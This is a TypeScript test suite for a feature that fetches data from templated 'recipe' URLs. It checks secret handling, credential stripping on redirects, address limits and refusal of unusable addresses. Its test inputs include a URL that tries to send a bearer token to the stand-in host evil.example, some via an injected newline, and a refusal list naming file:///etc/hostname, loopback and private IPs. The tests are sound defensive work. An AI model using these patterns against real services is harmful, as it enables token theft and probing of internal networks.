/** Whom recipes ask: where secrets go, and which addresses are refused. */
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import type { KeptData } from '../../api/recipes/data/kept-data.ts';
import { dataOf, type PollMore, problemsOf, withPolls } from './poll-world.ts';

const test = suite('hosts that recipes ask');

const address = 'https://a.example/data';
const json = { 'content-type': 'application/json' };

async function refusal(polled: Promise<KeptData>): Promise<string> {
  try {
    return JSON.stringify(dataOf(await polled));
  } catch (error) {
    return (error as Error).message;
  }
}

test('RC-97: a secret goes to no host that the recipe did not ask before, and nothing is asked then', async () => {
  await withPolls(
    (_, response) => response.writeHead(200, json).end('{"a":1}'),
    async ({ poll, received }) => {
      const secret: PollMore = {
        hasSecrets: true,
        values: { token: 'sesame' },
        settings: { headers: 'authorization=Bearer {{ token }}' },
      };
      const kept = await poll(address, secret);
      assert.is(received[0]?.headers.authorization, 'Bearer sesame');
      const other = 'https://evil.example/{{ token }}';
      assert.match(await refusal(poll(other, { ...secret, kept })), /now asks evil\.example/);
      assert.match(await refusal(poll(`${address}\n${other}`, { ...secret, kept })), /now asks evil\.example/);
      assert.match(await refusal(poll('https://a.example:8443/', { ...secret, kept })), /now asks a\.example:8443/);
      assert.is(received.length, 1);
      assert.equal(dataOf(await poll(`${address}?more`, { ...secret, kept })), { a: 1 });
      assert.equal(dataOf(await poll(other, { kept })), { a: 1 });
    },
  );
});

test('RC-96: a redirect gets neither headers nor logins of another origin', async () => {
  await withPolls(
    ({ headers }, response) => {
      if (headers.host === 'a.example') response.writeHead(302, { location: 'https://b.example/end' }).end();
      else response.writeHead(200, json).end('{"a":1}');
    },
    async ({ poll, received }) => {
      const logins = [{ origin: 'https://a.example', header: 'x-login', value: 'mine' }];
      assert.equal(dataOf(await poll(address, { logins, settings: { headers: 'authorization=sesame' } })), { a: 1 });
      assert.equal(
        received.map(({ headers }) => [headers.host, headers.authorization, headers['x-login']]),
        [
          ['a.example', 'sesame', 'mine'],
          ['b.example', undefined, undefined],
        ],
      );
    },
  );
});

test('a recipe that names fifty addresses, or none, asks nobody', async () => {
  await withPolls(
    (_, response) => response.writeHead(200, json).end('{}'),
    async ({ poll, received }) => {
      const many = (count: number): string => `{% for n in (1..${count}) %}https://a.example/{{ n }}\n{% endfor %}`;
      assert.is(await refusal(poll(many(50))), 'the recipe names more than 10 addresses');
      assert.is(await refusal(poll(many(11))), 'the recipe names more than 10 addresses');
      assert.is(
        await refusal(poll('{% if false %}https://a.example{% endif %}')),
        'the recipe names no address to ask for data',
      );
      assert.match(await refusal(poll('{% for n in (1..9000000000) %}x{% endfor %}')), /^its page cannot be made: /);
      assert.match(await refusal(poll('{% if x %}https://a.example')), /not closed/);
      assert.is(received.length, 0);
      assert.is(Object.keys(Object(dataOf(await poll(many(10))))).length, 10);
      assert.is(received.length, 10);
    },
  );
});

test('addresses that cannot be used say so, each by itself', async () => {
  await withPolls(
    (_, response) => response.writeHead(200, json).end('{"a":1}'),
    async ({ poll, received }) => {
      const places = [
        'ftp://a.example/',
        'nonsense',
        'file:///etc/hostname',
        'http://127.0.0.1/',
        'http://192.168.1.5/',
        'http://[::1]/',
        'https://user:pass@a.example/',
      ];
      const kept = await poll([...places, address].join('\n'));
      const problems = problemsOf(kept);
      for (const [at, place] of places.entries()) assert.is.not(problems[at], '', place);
      assert.is(problems.at(-1), '');
      assert.is(received.length, 1);
    },
  );
});

test('what a recipe is asked with has a digest of its own', async () => {
  await withPolls(
    (_, response) => response.writeHead(200, json).end('{}'),
    async ({ poll }) => {
      const made = await Promise.all([
        poll(address),
        poll(`${address}?`),
        poll(address, { values: { a: '1' } }),
        poll(address, { settings: { headers: 'a=1' } }),
        poll(address, { settings: { isPost: true } }),
        poll(address, { transform: 'var result = {}' }),
      ]);
      assert.is(new Set(made.map(({ askedAs }) => askedAs)).size, made.length);
      assert.is((await poll(address)).askedAs, made[0]?.askedAs);
    },
  );
});

test.run();
